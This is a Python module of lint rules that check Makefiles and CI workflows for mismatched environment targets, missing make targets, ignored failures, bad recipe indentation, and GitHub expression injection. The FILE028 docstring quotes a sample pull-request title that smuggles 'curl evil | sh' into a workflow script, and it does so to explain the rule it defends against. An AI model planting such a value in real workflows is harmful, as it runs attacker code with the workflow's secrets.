"""Pipelines, scripts and Makefiles: what they run is there, is for the environment that its name says, and may fail."""

import re
from collections.abc import Iterator, Sequence

from stead.check.context import Context, place
from stead.check.rule import rule
from stead.check.service.delivery import deliveries
from stead.model import Environment, Problem, SourceLocation
from stead.render.environment_alias import short

DELIVERS = re.compile(r"\b(?:ship|deploy|up|apply|upgrade|rollout|push|migrate|restore|compose)\b|compose\.|--env|ENV")
WORD = re.compile(r"[a-z0-9]+")
LONG = {"production": "prod", "stage": "staging", "development": "dev"}


@rule("FILE026")
def targets_ship_what_they_say(context: Context) -> Iterator[Problem]:
    """A make target with an environment's name uses that environment.

    `ship-prod` with `--env staging` in its recipe, or with `compose.stage.yaml`, is left from a copied target:
    production is unchanged, although the command succeeds. Name the environment of the target.
    """
    names = {word: each.name for each in _environments(context) for word in (each.name, short(each.name))}
    names |= {long: each for long, each in LONG.items() if each in names.values()}
    for file, at in context.each("pipeline"):
        kind, _, target = at.more.partition(" ")
        named = {names[word] for word in WORD.findall(target.lower()) if word in names} if kind == "recipe" else set()
        if len(named) != 1 or not DELIVERS.search(at.text):
            continue
        mentioned = {names[word] for word in WORD.findall(_without_comment(at.text).lower()) if word in names} - named
        if mentioned and not named & {names.get(word) for word in WORD.findall(at.text.lower())}:
            message = f"the target {target} works with {sorted(mentioned)[0]}"
            yield Problem("FILE026", message, place(file, at), f"name {sorted(named)[0]} here, or rename the target")


def _environments(context: Context) -> Sequence[Environment]:
    return context.backend.environments if context.backend else ()


def _without_comment(text: str) -> str:
    return text.partition(" #")[0]


@rule("FILE027")
def targets_of_make_are_there(context: Context) -> Iterator[Problem]:
    """A make target that a pipeline or a script calls exists in the Makefile.

    `make: *** No rule to make target` fails the pipeline at that step. The rule reads the Makefile at the top, and its
    includes. Fix the name, or add the target.
    """
    makefile = next(
        (path for name in ("Makefile", "GNUmakefile") if (path := context.root / name) in context.tree.known), None
    )
    text = context.tree.text(makefile) if makefile else None
    if makefile is None or text is None or "%" in text or "$(eval" in text:
        return  # a pattern rule makes targets that no line names
    included = "include " in text
    files = [path for path in context.tree.files if path == makefile or (included and path.suffix == ".mk")]
    targets = {at.text for path in files for at in context.facts(path).pipeline if at.more == "target"}
    for file, at in context.each("pipeline"):
        here = file == makefile or file.parent == context.root or ".github" in file.parts
        if at.more == "make" and here and at.text not in targets and not (context.root / at.text).exists():
            yield Problem(
                "FILE027",
                f"the Makefile has no target {at.text}",
                place(file, at),
                _fix(at.text),
                SourceLocation(str(makefile), 1, 1),
            )


def _fix(target: str) -> str:
    return f"add the target {target}, or fix its name"


OF_A_BASE = frozenset({"github.base_ref", "github.event.pull_request.base.ref"})


@rule("FILE028")
def scripts_take_no_expressions(context: Context) -> Iterator[Problem]:
    """A script of a workflow contains no expression of the event.

    `${{ github.event.pull_request.title }}` is inserted into the script before a shell parses it: a title of `"; curl
    evil | sh; "` is executed, with the workflow's token and secrets. Pass it in `env:`, and write `"$TITLE"`. The
    target branch of a pull request, which only writers can name, is reported with `--strict`.
    """
    for file, at in context.everywhere("pipeline"):
        if at.more == "expression":
            message = f"{at.text} is inserted into this script, and another person chooses its value"
            mend, sure = 'pass it in env:, and write "$NAME" in the script', at.text not in OF_A_BASE
            yield Problem("FILE028", message, place(file, at), mend, sure=sure)


@rule("FILE029")
def deliveries_may_fail(context: Context) -> Iterator[Problem]:
    """The failure of a delivery, a check, a backup or a smoke test is not ignored.

    With `|| true` the pipeline is green after a failure. Remove it; move a command that may fail to its own step, with
    the reason.
    """
    known = {path for path, _ in deliveries(context)}  # SERVICE025 names what these ignore
    for file, at in context.everywhere("pipeline"):
        if at.more == "forgiven" and file not in known:
            yield Problem(
                "FILE029", f"the failure of {at.text!r} is passed over", place(file, at), "remove the part behind ||"
            )


@rule("FILE037")
def recipes_begin_with_a_tab(context: Context) -> Iterator[Problem]:
    """A line of a Makefile's recipe begins with a tab.

    An editor that writes blanks makes it `*** missing separator`, and no target of the file can be made any more.
    Write a tab.
    """
    for file, at in context.each("faults"):
        if at.more == "make-blanks":
            yield Problem("FILE037", at.text, place(file, at), "write a tab")


RULES = (
    targets_ship_what_they_say,
    targets_of_make_are_there,
    scripts_take_no_expressions,
    deliveries_may_fail,
    recipes_begin_with_a_tab,
)
